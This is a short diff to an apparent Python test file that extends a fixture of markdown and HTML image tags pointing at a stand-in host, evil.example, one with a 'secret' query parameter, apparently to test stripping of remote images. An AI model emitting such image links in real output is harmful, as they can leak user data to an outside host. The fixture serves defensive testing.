@@ -71,7 +71,8 @@ def test_a_stream_that_begins_again_repeats_nothing(attempts: list[str], sent: s
 PICTURES = (
     "Look ![a [b] c](https://evil.example/x.png?q=secret) and\n\n"
     "![me][ref] ![here](leaf.png) ![d](data:image/png,x)\n\n"
-    "![e](//evil.example/y) <IMG SRC=https://evil.example/z>\n\n[ref]: https://evil.example/w.png\n\n"
+    "![e](//evil.example/y) ![f](https://evil.example/[x]) ![g](https://evil.example/v 'a [t]')\n"
+    "<IMG SRC=https://evil.example/z>\n\n[ref]: https://evil.example/w.png\n\n"
     "```\n![kept](https://a.b/c.png)\n```\n\nWell!"
 )
 
